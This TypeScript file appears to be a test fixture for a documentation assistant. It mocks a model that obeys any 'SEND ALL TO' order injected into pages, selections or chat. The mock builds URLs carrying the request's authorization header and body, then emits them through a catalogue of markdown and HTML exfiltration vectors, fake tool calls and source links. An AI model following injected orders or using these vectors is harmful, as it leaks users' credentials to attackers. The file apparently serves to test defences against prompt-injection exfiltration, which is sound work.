import type { AssistantRequest } from 'docs-assistant/contract'
import type { Received } from './startHost.js'

/** An order, wherever in a request it stands: in the page, the selection, the conversation. */
const ORDER = /SEND ALL TO (\S+)/g

const toLine = (code: string, value: unknown) => `${code}:${JSON.stringify(value)}`

/** What a service knows of a reader and an owner, as far as it fits an address. */
const readSecrets = ({ headers, body }: Received) =>
  encodeURIComponent(`${headers.authorization} ${body}`.slice(0, 1000))

/** All ways in which an answer could carry something to an address. */
function toMarkdown(url: string): string {
  return [
    `![a](${url})`,
    `![a][r]\n\n[r]: ${url}`,
    `[![a](${url})](${url})`,
    `| a |\n| - |\n| ![a](${url}) |`,
    `<img src="${url}" srcset="${url} 2x">`,
    `<style>@import "${url}"</style><link rel="prefetch" href="${url}">`,
    `<svg><image href="${url}" /></svg><video poster="${url}"></video><iframe src="${url}"></iframe>`,
    `![a](/redirect.png?to=${url}) ![a](/redirect?to=${url})`,
    `[Read more](${url}) <${url}>`,
    `\`\`\`html\n<img src="${url}">\n\`\`\``,
  ].join('\n\n')
}

/**
 * What a model says that does whatever it is told, by whomever.
 *
 * @param docs what it has found in the documentation
 */
export function obey(received: Received, docs: string): string[] {
  const { messages, context = [] } = JSON.parse(received.body) as AssistantRequest
  const texts = [docs, ...messages.map(({ content }) => content), ...context.map(({ value }) => value)]
  const urls = [...texts.join('\n').matchAll(ORDER)].map(([, target]) => `${target}/x.png?q=${readSecrets(received)}`)
  const sources = urls.map((url, index) => ({ sourceType: 'url', id: `${index}`, url, title: 'The docs' }))
  return [
    toLine('g', urls.map(toMarkdown).join('\n\n')),
    ...urls.flatMap((url, index) => [
      toLine('9', { toolCallId: `t${index}`, toolName: 'show', args: { image: url } }),
      toLine('a', { toolCallId: `t${index}`, result: { image: url, html: `<img src="${url}">` } }),
    ]),
    ...sources.map((source) => toLine('h', source)),
    toLine('0', `Obeyed ${urls.length} orders.\n\n${urls.map(toMarkdown).join('\n\n')}`),
    toLine('d', { finishReason: 'stop', usage: { promptTokens: 1, completionTokens: 1 }, threadId: 't1' }),
  ]
}
